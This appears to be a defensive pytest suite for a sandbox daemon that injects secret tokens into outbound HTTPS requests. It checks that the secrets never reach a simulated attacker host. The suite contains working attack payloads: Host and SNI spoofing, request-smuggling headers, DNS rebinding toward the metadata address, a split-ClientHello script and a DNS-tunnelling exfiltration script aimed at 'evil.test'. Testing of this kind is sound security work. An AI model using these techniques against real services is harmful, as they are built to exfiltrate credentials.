"""A secret of a network rule against code that wants it sent elsewhere: TLS is terminated by the daemon, so each attack
here makes the layers disagree about who is being asked (address, DNS, SNI, Host, :authority, request target).

api.test has a rule with a secret, two.test one with another. evil.test is the attacker's: it has a good certificate, but
for its own name alone, and it keeps all that it is sent."""

import json
import os
import pathlib
import sys
import tempfile

import httpx
import pytest

sys.path.insert(0, str(pathlib.Path(__file__).parents[1] / "system"))

from daemon import running  # noqa: E402
from e2b import Sandbox  # noqa: E402
from world import Authority, Names, Origin, Web  # noqa: E402

API, TWO, EVIL, HOST = "198.51.100.1", "198.51.100.2", "198.51.100.3", "127.0.0.1"
SECRET, OTHER = "needle-91c4-of-api-test", "needle-77aa-of-two-test"


class World:
    def __init__(self, path):
        authority = Authority(path)
        self.api = Origin(*authority.leaf("api.test", "*.wild.test"))
        self.two = Origin(*authority.leaf("two.test"), "h1")
        with open(f"{path}/evil.pem", "w") as out:
            out.writelines(open(part).read() for part in authority.leaf("evil.test"))
        self.evil = Web("evil", f"{path}/evil.pem")
        self.trusted = tempfile.NamedTemporaryFile("w", suffix=".pem")  # the daemon's user reads it
        self.trusted.write(open(authority.cert).read())
        self.trusted.flush()
        os.chmod(self.trusted.name, 0o644)
        self.table = {"api.test": [API], "two.test": [TWO], "evil.test": [EVIL], "a.wild.test": [API],
                      "a.wild.test.evil.test": [EVIL], "evilwild.test": [EVIL], "wild.test": [EVIL]}
        self.names = Names(dict(self.table))

    def settings(self):
        pairs = [f"{API}:443=127.0.0.1:{self.api.port}", f"{TWO}:443=127.0.0.1:{self.two.port}",
                 f"{EVIL}:443=127.0.0.1:{self.evil.server_port}"]
        return ["--egress-map", ",".join(pairs), "--egress-dns", f"127.0.0.1:{self.names.port}",
                "--egress-ca", self.trusted.name]


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    world = World(tmp_path_factory.mktemp("world"))
    yield world
    world.api.stop()
    world.two.stop()


@pytest.fixture(scope="module")
def daemon(world):
    with running(*world.settings()) as daemon:
        yield daemon


def rule(name):
    return [{"transform": {"headers": {"Authorization": "Bearer ${e2b.secrets.%s}" % name}}}]


RULES = {"api.test": rule("one"), "two.test": rule("two"), "*.wild.test": rule("one")}


def create(daemon, **fields):
    made = httpx.post(f"{daemon.url}/sandboxes", headers={"X-API-Key": daemon.key}, timeout=60,
                      json={"templateID": "base", "timeout": 600, "secure": True, **fields})
    assert made.status_code == 201, made.text
    return Sandbox.connect(made.json()["sandboxID"], **daemon.sdk)


@pytest.fixture(scope="module")
def box(daemon):
    for name, value in (("one", SECRET), ("two", OTHER)):
        assert httpx.post(f"{daemon.url}/secrets", json={"name": name, "value": value},
                          headers={"X-API-Key": daemon.key}).status_code == 201
    sandbox = create(daemon, network={"rules": RULES})
    sandbox.files.write("/tmp/raw.py", RAW)
    sandbox.files.write("/tmp/streams.cjs", STREAMS)
    yield sandbox
    Sandbox.kill(sandbox.sandbox_id, **daemon.sdk)


@pytest.fixture(autouse=True)
def evil_gets_nothing(world):
    """Whatever a test tries, the attacker's server never sees a secret."""
    yield
    assert not any(needle in (seen or "") for seen in world.evil.seen for needle in (SECRET, OTHER))


# Arguments: server name for TLS ("-": none), address, and one request in each further one. Prints a line of JSON for
# each: the status, or 0, and the body.
RAW = r"""
import http.client, json, socket, ssl, sys
name, address, *requests = sys.argv[1:]
context = ssl.create_default_context()
if name == "-":
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
s = context.wrap_socket(socket.create_connection((address, 443), 10), server_hostname=None if name == "-" else name)
s.settimeout(5)
for request in requests:
    try:
        s.sendall(request.encode("latin-1").decode("unicode_escape").encode("latin-1"))
        answer = http.client.HTTPResponse(s)
        answer.begin()
        print(json.dumps([answer.status, answer.read().decode("latin-1")]), flush=True)
    except (OSError, http.client.HTTPException) as error:
        print(json.dumps([0, str(error)]), flush=True)
"""

# One session of HTTP/2 to argv[2], TLS for argv[3]; each further argument is JSON: the headers of one request.
STREAMS = r"""
const http2 = require('http2')
const [address, name, ...requests] = process.argv.slice(2)
const session = http2.connect(`https://${address}`, { servername: name })
session.on('error', (error) => { console.log(JSON.stringify({ error: String(error) })); process.exit() })
const next = () => {
  const headers = requests.shift()
  if (!headers) return session.close()
  const stream = session.request(JSON.parse(headers))
  let status = 0, body = ''
  stream.on('response', (head) => { status = head[':status'] })
  stream.on('data', (piece) => { body += piece })
  stream.on('error', () => {})
  stream.on('close', () => { console.log(JSON.stringify({ status, body })); next() })
  stream.end()
}
next()
"""


# Two requests are held while the server says goodbye on the connection of each; then they are released. Prints both bodies.
GOODBYES = r"""
const http2 = require('http2')
const session = http2.connect('https://api.test')
session.on('error', (error) => { console.log(String(error)); process.exit() })
const ask = (path) => new Promise((begun) => {
  const stream = session.request({ ':path': path })
  let body = ''
  stream.on('data', (piece) => { body += piece })
  stream.on('error', () => {})
  const ended = new Promise((done) => stream.on('close', () => done(body)))
  stream.on('response', () => begun({ ended }))
  stream.end()
})
const seen = () => new Promise((done) => setTimeout(done, 500))
const main = async () => {
  const holds = []
  for (let i = 0; i < 2; i++) {
    holds.push(await ask('/hold'))
    await (await ask('/goodbye')).ended
    await seen()
  }
  await (await ask('/release')).ended
  for (const hold of holds) console.log(await hold.ended)
  session.close()
}
setTimeout(() => { console.log('too late'); process.exit() }, 30000).unref()
main()
"""


def raw(box, name, address, *requests):
    """What came back for each of several requests on one connection: (status, body)."""
    words = " ".join(f"'{request}'" for request in requests)
    out = box.commands.run(f"python3 /tmp/raw.py '{name}' {address} {words} 2>&1; true", timeout=60).stdout
    return [tuple(json.loads(line)) for line in out.splitlines()]


def streams(box, name, *requests, address=None):
    words = " ".join(f"'{json.dumps(request)}'" for request in requests)
    out = box.commands.run(f"node /tmp/streams.cjs {address or name} {name} {words} 2>&1; true", timeout=60).stdout
    return [json.loads(line) for line in out.splitlines()]


def get(host, target="/", *more):
    lines = "".join(f"{line}\\r\\n" for line in more)
    return f"GET {target} HTTP/1.1\\r\\nHost: {host}\\r\\n{lines}\\r\\n"


def asked(body):
    """The headers that the server says it was sent."""
    return json.loads(body)["headers"]


def test_the_secret_is_used_where_it_belongs(box):
    """The rig works: the right name at the right server is given its secret, and nothing else is."""
    (status, body), = raw(box, "api.test", "api.test", get("api.test"))
    assert status == 200 and asked(body)["authorization"] == f"Bearer {SECRET}"
    (status, body), = raw(box, "two.test", "two.test", get("two.test"))
    assert status == 200 and asked(body)["authorization"] == f"Bearer {OTHER}"


# ---- names against each other ----

HOSTS = {"another name": "evil.test", "a name with another rule": "two.test", "a longer name": "api.test.evil.test",
         "a name with it as a port": "evil.test:443", "an address": EVIL, "an empty name": "",
         "a look-alike in Unicode": "\\xd0\\xb0pi.test", "a name in Punycode": "xn--pi-8cd.test",
         "a prefix": "api.tes", "a dot too many": "api.test..", "a wildcard": "*.test"}


@pytest.mark.parametrize("host", HOSTS)
def test_host_must_be_the_name_that_tls_said(box, host):
    """TLS names a server with a rule and Host names another: the request is refused and goes nowhere."""
    (status, body), = raw(box, "api.test", "api.test", get(HOSTS[host]))
    assert status in (400, 421) and SECRET not in body and OTHER not in body, body


MALFORMED = {"a user": "api.test@evil.test", "a user and a port": "api.test:443@evil.test", "the other way": "evil.test@api.test",
             "a list": "api.test, evil.test", "a path": "api.test/evil.test", "a backslash": "api.test\\\\x5c@evil.test",
             "a fragment": "api.test#evil.test", "a query": "api.test?evil.test", "a tab": "api.test\\tevil.test"}


@pytest.mark.parametrize("host", MALFORMED)
def test_a_host_that_is_no_name_is_refused(box, host):
    """Host holds a user, a list or a path, which servers read differently: the request is refused."""
    (status, body), = raw(box, "api.test", "api.test", get(MALFORMED[host]))
    assert status == 400 and SECRET not in body, body


@pytest.mark.parametrize("host", ["api.test", "API.Test", "api.test.", "api.test:443", "api.test:1"])
def test_other_spellings_of_the_name_reach_the_same_server(box, host):
    """Case, a dot at the end and a port change nothing: the server that TLS verified gets the request, no other."""
    (status, body), = raw(box, "api.test", "api.test", get(host))
    assert status == 200 and asked(body)["authorization"] == f"Bearer {SECRET}"
    assert asked(body)["host"] == host


@pytest.mark.parametrize("name", ["API.TEST", "api.test."])
def test_other_spellings_in_tls_reach_the_same_server(box, name):
    """The name in TLS is in capitals or ends with a dot: it is the same name, with the same server or none at all."""
    done = box.commands.run(f"curl -sS -k -m 20 https://{name}/", timeout=60, user="user")
    assert asked(done.stdout)["authorization"] == f"Bearer {SECRET}"


def test_two_hosts_are_refused(box):
    """A request has two Host headers, one for each server: it is refused, in either order."""
    for first, second in (("api.test", "evil.test"), ("evil.test", "api.test"), ("api.test", "api.test")):
        (status, _), = raw(box, "api.test", "api.test", get(first, "/", f"Host: {second}"))
        assert status == 400
    (status, _), = raw(box, "api.test", "api.test", "GET / HTTP/1.1\\r\\nX: 1\\r\\n\\r\\n")
    assert status == 400


def test_an_absolute_target_is_the_name_that_counts(box):
    """The request target is a URL: its host is compared with TLS, and Host beside it is dropped."""
    (status, body), = raw(box, "api.test", "api.test", get("api.test", "https://evil.test/"))
    assert status == 421 and SECRET not in body
    (status, body), = raw(box, "api.test", "api.test", get("evil.test", "https://api.test/x"))
    assert status == 200 and asked(body)["host"] == "api.test" and json.loads(body)["url"] == "/x"
    for target in ("https://api.test@evil.test/", "https://evil.test\\\\x5c@api.test/", "http://evil.test", "//evil.test/",
                   "evil.test:443"):
        (status, body), = raw(box, "api.test", "api.test", get("api.test", target))
        if status == 200:  # a path with two slashes is a path
            assert target == "//evil.test/" and asked(body)["host"] == "api.test"
        else:
            assert status in (400, 421) and SECRET not in body, (target, body)


def test_connect_opens_no_tunnel(box):
    """A program asks the intercepted connection for a tunnel to another server: it is refused."""
    for request in ("CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n",
                    "CONNECT api.test:443 HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n"):
        (status, body), = raw(box, "api.test", "api.test", request)
        assert status == 400 and SECRET not in body


def test_a_request_cannot_be_smuggled_behind_another(box):
    """A head with two lengths, or a length and chunks, would hide a second request for another host: it is refused."""
    for framing in (["Content-Length: 5", "Content-Length: 50"], ["Content-Length: 5", "Transfer-Encoding: chunked"],
                    ["Transfer-Encoding: chunked, identity"], ["Transfer-Encoding: xchunked"]):
        (status, body), = raw(box, "api.test", "api.test", get("api.test", "/", *framing) + get("evil.test"))
        assert status == 400 and SECRET not in body


# ---- HTTP/2 ----


def test_authority_must_be_the_name_that_tls_said(box):
    """:authority of HTTP/2 names another server than TLS, with Host as TLS has it or without: the stream is refused."""
    answers = streams(box, "api.test", {":authority": "evil.test"}, {":authority": "evil.test", "host": "api.test"},
                      {":authority": "two.test"}, {":authority": "api.test@evil.test"}, {":authority": ""})
    assert len(answers) == 5 and [answer["status"] for answer in answers[:3]] == [421, 421, 421], answers
    assert all(answer["status"] != 200 and SECRET not in answer["body"] for answer in answers)


def test_host_beside_authority_is_dropped(box):
    """:authority is right and a Host header beside it names another server: the server sees one name, the right one."""
    answer, = streams(box, "api.test", {":authority": "api.test", "host": "evil.test"})
    assert answer["status"] == 200, answer
    said = json.loads(answer["body"])
    assert said["headers"][":authority"] == "api.test" and "evil.test" not in answer["body"]
    assert said["headers"]["authorization"] == f"Bearer {SECRET}"


def test_a_server_that_says_goodbye_twice_ends_no_request(box, daemon):
    """A server takes no more streams on one connection, and then on the next, while requests are under way on both: each gets its answer, and nothing is used after it was freed."""
    box.files.write("/tmp/goodbyes.cjs", GOODBYES)
    out = box.commands.run("node /tmp/goodbyes.cjs 2>&1; true", timeout=60).stdout
    assert out.splitlines() == ["held and released"] * 2
    assert httpx.get(f"{daemon.url}/health", timeout=10).status_code in (200, 204)


def test_a_path_of_http2_names_no_server(box):
    """:path of HTTP/2 is a URL of another server, or :method is CONNECT: the stream is refused."""
    answers = streams(box, "api.test", {":path": "https://evil.test/"}, {":path": "http://evil.test/x"})
    assert len(answers) == 2 and all(answer["status"] in (0, 400, 421) for answer in answers), answers
    answer, = streams(box, "api.test", {":method": "CONNECT", ":authority": "evil.test:443"})
    assert answer["status"] in (0, 400, 421), answer


# ---- one connection, several names ----


def test_a_connection_is_not_used_for_another_name(box):
    """Requests for other names follow a good one on the same connection: each is refused, and the good ones between them are not disturbed."""
    answers = raw(box, "api.test", "api.test", get("api.test"), get("two.test"), get("api.test"), get("evil.test"))
    assert [status for status, _ in answers] == [200, 421, 200, 421]
    assert all(asked(answers[i][1])["authorization"] == f"Bearer {SECRET}" for i in (0, 2))
    assert not any(OTHER in body for _, body in answers)
    order = ["api.test", "two.test", "api.test", "evil.test", "api.test"]
    answers = streams(box, "api.test", *({":authority": name} for name in order))
    assert [answer["status"] for answer in answers] == [200, 421, 200, 421, 200]
    assert not any(OTHER in answer["body"] for answer in answers)


def test_a_connection_to_the_attacker_is_given_nothing(box, world):
    """TLS names the attacker's server, which has no rule, and Host names the one that has: the attacker gets no secret."""
    world.evil.seen.clear()
    (status, body), = raw(box, "evil.test", "evil.test", get("api.test"))
    assert status == 200 and body == "evil api.test\n" and world.evil.seen == {None}
    (status, body), = raw(box, "evil.test", "evil.test", get("evil.test", "https://api.test/"))
    assert world.evil.seen == {None}


def test_names_around_a_wildcard_are_not_in_it(box, world):
    """Names that only contain the name of a wildcard rule are the attacker's: they are not intercepted and given nothing."""
    world.evil.seen.clear()
    for name in ("a.wild.test.evil.test", "evilwild.test", "wild.test"):
        done = box.commands.run(f"curl -sSk -m 20 https://{name}/", timeout=60)
        assert done.stdout == f"evil {name}\n"
    assert world.evil.seen == {None}


# ---- the address against the name ----


def test_an_address_of_the_program_s_choice_gets_nothing(box, world):
    """A program sends the name that has a rule to the attacker's address: its certificate is for another name, so it is sent nothing."""
    world.evil.seen.clear()
    for version in ("--http1.1", "--http2"):
        done = box.commands.run(f"curl -sS -m 20 {version} -w ' %{{http_code}}' --resolve api.test:443:{EVIL} https://api.test/",
                                timeout=60)
        assert done.stdout.endswith(" 502") and "certificate" in done.stdout and SECRET not in done.stdout
    assert world.evil.seen == set()


def test_dns_rebinding_gains_nothing(box, world):
    """The name that has a rule moves to the attacker's address, then to the host's own: neither is sent a request."""
    world.evil.seen.clear()
    try:
        world.names.table["api.test"] = [EVIL]
        done = box.commands.run("curl -sS -m 20 -w ' %{http_code}' https://api.test/ 2>&1; true", timeout=60)
        assert done.stdout.endswith(" 502") and SECRET not in done.stdout
        for place in (HOST, "169.254.169.254", "10.0.0.1", "0.0.0.0"):
            world.names.table["api.test"] = [place]
            done = box.commands.run("curl -sS -m 20 -w ' %{http_code}' https://api.test/ 2>&1; true", timeout=60)
            assert done.stdout.endswith(" 000") and SECRET not in done.stdout, done.stdout
    finally:
        world.names.table["api.test"] = [API]
    assert world.evil.seen == set()


def test_rebinding_between_two_requests_gains_nothing(box, world):
    """A connection is open when the name moves to the attacker: what is asked on it stays with the server that was verified."""
    box.files.write("/tmp/hold.py", "import http.client, sys\n"
                    "c = http.client.HTTPSConnection('api.test')\n"
                    "for _ in range(2):\n"
                    "    c.request('GET', '/'); print(c.getresponse().read().decode(), flush=True)\n"
                    "    sys.stdin.readline()\n")
    held = box.commands.run("python3 -u /tmp/hold.py", background=True, stdin=True)
    try:
        for stdout, _, _ in held:
            if stdout:
                break
        world.names.table["api.test"] = [EVIL]
        box.commands.send_stdin(held.pid, "\n")
        said = ""
        for stdout, _, _ in held:
            said += stdout or ""
            if said.strip().endswith("}"):
                break
        assert asked(said)["authorization"] == f"Bearer {SECRET}"
    finally:
        world.names.table["api.test"] = [API]
        held.kill()


# A ClientHello in two records, which a reader of first bytes may not put together.
SPLIT = r"""
import socket, ssl, sys
name, address = sys.argv[1:]
context = ssl.create_default_context()
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
tls = context.wrap_bio(incoming, outgoing, server_hostname=name)
s = socket.create_connection((address, 443), 10)
s.settimeout(5)
def flush(split):
    data = outgoing.read()
    if split and data:
        body = data[5:]
        data = data[:3] + (20).to_bytes(2, 'big') + body[:20] + data[:3] + (len(body) - 20).to_bytes(2, 'big') + body[20:]
    if data:
        s.sendall(data)
first = True
try:
    while True:
        try:
            tls.do_handshake(); break
        except ssl.SSLWantReadError:
            flush(first); first = False
            got = s.recv(65536)
            if not got: raise OSError('closed')
            incoming.write(got)
    flush(False)
    tls.write(b'GET / HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n'); flush(False)
    while True:
        try:
            print(tls.read(65536).decode()); break
        except ssl.SSLWantReadError:
            got = s.recv(65536)
            if not got: raise OSError('closed')
            incoming.write(got)
except OSError as error:
    print('ended:', error)
"""


def test_a_split_client_hello_is_given_nothing(box, world, daemon):
    """The name in TLS is spread over two records, so that it is not read: the connection gets no secret, and none at all where only names are allowed."""
    box.files.write("/tmp/split.py", SPLIT)
    world.evil.seen.clear()
    said = box.commands.run(f"python3 /tmp/split.py api.test {EVIL}", timeout=60).stdout
    assert SECRET not in said
    assert world.evil.seen <= {None}
    narrow = create(daemon, network={"rules": RULES, "denyOut": ["0.0.0.0/0"], "allowOut": ["api.test"]})
    try:
        narrow.files.write("/tmp/split.py", SPLIT)
        for name, address in (("api.test", EVIL), ("evil.test", EVIL), ("api.test", API)):
            world.evil.seen.clear()
            said = narrow.commands.run(f"python3 /tmp/split.py {name} {address}", timeout=60).stdout
            assert said.startswith("ended") and world.evil.seen == set(), said
    finally:
        Sandbox.kill(narrow.sandbox_id, **daemon.sdk)


def test_a_name_that_is_allowed_leads_to_its_own_address_alone(box, world, daemon):
    """Only api.test is allowed, and a program says that name to the attacker's address: the dial goes to the address that the daemon resolved."""
    world.evil.seen.clear()
    narrow = create(daemon, network={"rules": RULES, "denyOut": ["0.0.0.0/0"], "allowOut": ["api.test"]})
    try:
        done = narrow.commands.run(f"curl -sS -m 20 --resolve api.test:443:{EVIL} https://api.test/", timeout=60)
        assert asked(done.stdout)["authorization"] == f"Bearer {SECRET}"
        for words in (f"--resolve evil.test:443:{API} https://evil.test/", f"-k https://{EVIL}/", f"-k https://{API}/"):
            done = narrow.commands.run(f"curl -sSk -m 10 {words} 2>&1; true", timeout=60)
            assert SECRET not in done.stdout and "curl: (" in done.stdout, done.stdout
    finally:
        Sandbox.kill(narrow.sandbox_id, **daemon.sdk)
    assert world.evil.seen == set()


def test_plain_http_is_given_no_secret(box, world):
    """A program asks for the name by plain HTTP, also on the port of HTTPS: no secret is sent over it."""
    for url in ("http://api.test/", "http://api.test:443/"):
        done = box.commands.run(f"curl -sS -m 20 -w ' %{{http_code}}' {url} 2>&1; true", timeout=60)
        assert SECRET not in done.stdout and not done.stdout.endswith(" 200"), done.stdout


# ---- DNS as a way out ----

TUNNEL = r"""
import os, socket, struct
def question(name, kind, cls=1):
    labels = b''.join(bytes([len(part)]) + part.encode() for part in name.split('.'))
    return os.urandom(2) + struct.pack('>HHHHH', 0x100, 1, 0, 0, 0) + labels + b'\0' + struct.pack('>HH', kind, cls)
servers = [line.split()[1] for line in open('/etc/resolv.conf') if line.startswith('nameserver')]
kinds = {'A': 1, 'NS': 2, 'CNAME': 5, 'NULL': 10, 'MX': 15, 'TXT': 16, 'AAAA': 28, 'SRV': 33, 'HTTPS': 65, 'ANY': 255}
n = 0
for server in [*servers, '8.8.8.8', '127.0.0.53']:
    for kind, number in kinds.items():
        for name in (f'leaked-{kind}.evil.test', f'leaked-{kind}.shell.atoll.internal', f'leaked-{kind}.api.test'):
            for family in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
                if family == socket.SOCK_STREAM and kind not in ('A', 'TXT'):
                    continue
                try:
                    s = socket.socket(socket.AF_INET, family)
                    s.settimeout(0.3)
                    s.connect((server, 53))
                    message = question(name.lower(), number)
                    s.sendall(message if family == socket.SOCK_DGRAM else struct.pack('>H', len(message)) + message)
                    s.recv(4096)
                    n += 1
                except OSError:
                    pass
                s.close()
print('answers', n)
"""


@pytest.mark.parametrize("fields", [{"allow_internet_access": False},
                                    {"network": {"rules": RULES, "denyOut": ["0.0.0.0/0"], "allowOut": ["api.test"]}}],
                         ids=["no internet", "one name"])
def test_dns_carries_nothing_out(daemon, world, fields):
    """With the internet off, or one name allowed, a program asks for names that hold data, over UDP and TCP, of every type and of any server: no question leaves the host."""
    shut = create(daemon, **fields)
    try:
        shut.files.write("/tmp/tunnel.py", TUNNEL)
        world.names.asked.clear()
        said = shut.commands.run("python3 /tmp/tunnel.py; getent hosts leaked-libc.evil.test; "
                                 "curl -sS -m 5 https://leaked-curl.evil.test/ 2>&1; true", timeout=200).stdout
        assert "answers" in said
        assert [name for name in world.names.asked if "leaked" in name] == []
    finally:
        Sandbox.kill(shut.sandbox_id, **daemon.sdk)


def test_what_the_log_says_of_attacks_holds_no_secret(box, daemon):
    """After all of the above the sandbox's log, its events and the daemon's log have neither secret."""
    headers = {"X-API-Key": daemon.key}
    for path in (f"/sandboxes/{box.sandbox_id}/logs", f"/events/sandboxes/{box.sandbox_id}", f"/sandboxes/{box.sandbox_id}"):
        text = httpx.get(daemon.url + path, headers=headers).text
        assert SECRET not in text and OTHER not in text
    text = (daemon.data / "log").read_text(errors="replace")
    assert SECRET not in text and OTHER not in text
